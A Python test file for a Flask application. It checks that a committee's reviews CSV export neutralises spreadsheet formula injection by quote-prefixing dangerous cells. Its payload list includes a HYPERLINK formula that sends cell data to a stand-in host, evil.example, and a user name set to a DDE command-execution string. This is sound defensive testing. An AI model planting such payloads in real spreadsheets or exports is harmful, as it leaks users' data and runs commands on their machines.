"""Every spreadsheet export neutralises formulas: the committee's reviews CSV as well as HQ's tables."""
from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

from flask.testing import FlaskClient

from readiness.models import Role, User

from .committee_fixtures import PASSWORD, closed_assessment, delegation, in_review, log_in, reviewed, submitted

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]


def test_the_committee_reviews_csv_writes_no_live_formula(client: FlaskClient, make_user: Callable[..., User],
                                                           db_session: Any) -> None:
    home = delegation("Kivu")
    member = make_user(role=Role.MEMBER, password=PASSWORD, delegations=[home])
    chair = make_user(role=Role.CHAIR, password=PASSWORD, name="=cmd|' /C calc'!A0")
    proposal = in_review(submitted(closed_assessment(home), member), chair)
    for index, payload in enumerate(PAYLOADS):
        reviewer = make_user(role=Role.COMMITTEE, password=PASSWORD, name=f"Reviewer {index}")
        reviewed(proposal, chair, reviewer, committee_note=payload)
    reviewed(proposal, chair, chair)
    log_in(client, chair)

    rows = list(csv.reader(io.StringIO(client.get(f"/committee/proposals/{proposal.id}/reviews.csv").get_data(as_text=True).lstrip("\ufeff"))))

    cells = [cell for row in rows[1:] for cell in row]
    assert {cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))} == set()
    assert "'" + PAYLOADS[0] in cells and "'=cmd|' /C calc'!A0" in cells
